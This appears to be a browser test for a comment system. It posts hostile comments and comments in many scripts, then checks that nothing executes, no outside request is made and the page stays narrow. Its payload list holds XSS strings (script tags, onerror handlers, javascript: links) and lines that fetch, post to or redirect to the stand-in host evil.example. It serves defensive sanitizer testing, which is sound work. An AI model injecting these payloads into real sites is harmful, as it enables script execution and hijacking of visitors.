import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { setTimeout as sleep } from 'node:timers/promises'
import { fileURLToPath } from 'node:url'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { initialCommentSettings } from '../../packages/core/src/comments.ts'
import { sharedBrowser } from '../shared-browser.ts'
import { commenterAt, openTalkSite, setTalk, type TalkSite, talkStories } from './talk-site.ts'

// Comments that mean harm and comments of all the world, posted for real and opened on a narrow screen whose page may run
// scripts. What one of them did would show in a dialog, in the page's title, in a request or in a page that is too wide.

const harm = "document.title='harmed';fetch('https://evil.example/')"

const hostile: readonly string[] = [
  `<script>${harm}</script><img src=x onerror="${harm}"><svg/onload=alert(1)>`,
  `[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) [c]( java\tscript:alert(1))`,
  `https://x.example/"onmouseover="${harm}" [a](https://x.example/"><img src=x onerror=alert(1)>)`,
  `</textarea></p></div></article><form action=https://evil.example/ id=f><input name=text autofocus onfocus=alert(1)>`,
  `<style>*{display:none}</style><base href=https://evil.example/><meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `*<iframe srcdoc="<script>parent.${harm}</script>">* > <math><mtext><table><mglyph><style><img src onerror=alert(1)>`,
  '{{constructor.constructor("alert(1)")()}} <%= alert(1) %> #{alert(1)} </script><script>alert(1)</script>',
  'a'.repeat(900),
  `https://long.example/${'a'.repeat(900)}`,
  `${'W'.repeat(300)}\u202e${'\u00a0'.repeat(300)}b`,
  `h${'\u0300\u0316\u0334'.repeat(300)}e ${'क्'.repeat(300)} ${'ᄀ'.repeat(300)} ${'👩‍'.repeat(300)}`,
  `${'﷽'.repeat(20)} ${'𒐫'.repeat(20)} ${'⸻'.repeat(20)}`,
]

const real: readonly string[] = [
  'Tiếng Việt rất đẹp',
  'Dvořák a žluťoučký kůň',
  'سلام، می‌خواهم این را بگویم',
  'هذه قصة مؤثرة، شكرا لكم',
  'תודה על הכתבה',
  'श्रीमान् क्‍ष',
  'ශ්‍රී ලංකා',
  'ภาษาไทยน้ำใจ',
  'မြန်မာဘာသာ',
  'བོད་སྐད',
  '日本語と漢字',
  '한국어',
  'Ελληνικά',
  'Съешь ещё этих булок',
  '👨‍👩‍👧‍👦 🏴󠁧󠁢󠁳󠁣󠁴󠁿 👍🏽',
]

const shared = fileURLToPath(new URL('../../../shared/data/', import.meta.url))

/** Strings that others collected; none where they do not lie beside the repository, and that is said. */
function collected(): readonly string[] {
  if (!existsSync(shared)) {
    console.log('No strings of others: ../shared/data is not there')
    return []
  }
  const folders = [
    'xss/dompurify',
    'xss/html5lib-sanitizer',
    'xss/markdown-it',
    'strings/blns',
    'strings/unicode-abuse',
    'strings/links',
  ]
  const files = folders.flatMap((folder) =>
    readdirSync(shared + folder).map((name) => `${shared}${folder}/${name}`),
  )
  return files
    .filter((name) => /\.(json|dat|txt)$/.test(name))
    .flatMap((name) => stringsIn(readFileSync(name, 'utf8')))
}

function stringsIn(text: string): readonly string[] {
  try {
    return stringsOf(JSON.parse(text))
  } catch {
    return text.split('\n')
  }
}

function stringsOf(value: unknown): readonly string[] {
  if (typeof value === 'string') return value === '' ? [] : [value]
  return typeof value === 'object' && value !== null ? Object.values(value).flatMap(stringsOf) : []
}

/** Many strings as comments: a line each, not more than a comment may have. */
function asComments(strings: readonly string[]): readonly string[] {
  const comments: string[] = []
  let now: string[] = []
  for (const string of strings.map((words) => words.replace(/\n+/g, ' ').slice(0, 4000))) {
    if (now.length >= 100 || now.join('\n').length + string.length > 15_000) {
      comments.push(now.join('\n'))
      now = []
    }
    now.push(string)
  }
  return [...comments, now.join('\n')].filter((text) => text.trim() !== '')
}

let site: TalkSite
beforeAll(async () => {
  site = await openTalkSite()
  await setTalk(site.newsroom, {
    moderation: {
      ...initialCommentSettings.moderation,
      newCommenterHold: 0,
      longest: 20_000,
      mostLinks: 100,
      languages: [],
    },
  })
})
afterAll(() => site?.close())

/** This one reader asks faster than people read, and waits as it is told to. */
const waited = (seconds: string | null | undefined): Promise<void> => sleep(1000 * Number(seconds))

/** Posts a comment as its form does, and gives where it can be seen. */
async function post(cookie: string, text: string): Promise<string> {
  const answer = await fetch(`${site.url}/-/comment/write`, {
    method: 'POST',
    redirect: 'manual',
    headers: { cookie, origin: site.url },
    body: new URLSearchParams({ story: talkStories.bandstand.id, text }),
  })
  if (answer.status === 429) {
    await waited(answer.headers.get('retry-after'))
    return post(cookie, text)
  }
  const place = answer.headers.get('location')
  if (answer.status !== 303 || place === null || !place.startsWith('/-/comment/'))
    throw new Error(
      `Cannot post ${JSON.stringify(text.slice(0, 80))}: ${answer.status} ${place ?? ''}`,
    )
  return place
}

const widest = `(() => Math.max(document.documentElement.scrollWidth, ...[...document.querySelectorAll('.comment-text, .comment-text *')]
  .map((element) => Math.ceil(element.getBoundingClientRect().right))))()`

/** What is wrong with a page that is open; nothing where all is well. */
async function faultsOn(page: Page, place: string, about: string): Promise<readonly string[]> {
  const faults: string[] = []
  const answer = await page.goto(place)
  if (answer?.status() === 429) {
    await waited(answer.headers()['retry-after'])
    return faultsOn(page, place, about)
  }
  const right = await page.evaluate<number>(widest)
  if (right > 360) faults.push(`${about}: ${right} pixels wide`)
  if ((await page.title()).includes('harmed')) faults.push(`${about}: something ran`)
  if ((await page.locator('.comment-text').count()) === 0)
    faults.push(`${about}: no comment is shown`)
  return faults
}

it('comments that mean harm run nothing and break nothing, and every language can be read', async () => {
  const window = await (await sharedBrowser()).newContext({
    baseURL: site.url,
    viewport: { width: 360, height: 800 },
    bypassCSP: true,
  })
  const page = await window.newPage()
  const faults: string[] = []
  page.on('dialog', (dialog) => {
    faults.push(`a dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('request', (request) => {
    if (!request.url().startsWith(site.url) && !request.url().startsWith('data:'))
      faults.push(`asks ${request.url()}`)
  })
  const comments = [real.join('\n'), ...hostile, ...asComments(collected())]
  for (const [index, text] of comments.entries()) {
    // Nobody may write more than a few comments in a minute.
    const person = await commenterAt(
      site.newsroom,
      `Reader ${'ABCDEFGHIJKLMNOPQRSTUVWXYZ'.slice(index, index + 1)}${index}`,
    )
    await window.addCookies([person])
    const place = await post(`${person.name}=${person.value}`, text)
    faults.push(...(await faultsOn(page, place, `comment ${index} (${text.slice(0, 40)})`)))
    if (index === 0) {
      const words = await page.locator('.comment-text').first().innerText()
      faults.push(...real.filter((one) => !words.includes(one.normalize('NFC'))))
    }
  }
  faults.push(...(await faultsOn(page, talkStories.bandstand.address, 'the story')))
  await window.close()
  expect(faults).toEqual([])
})
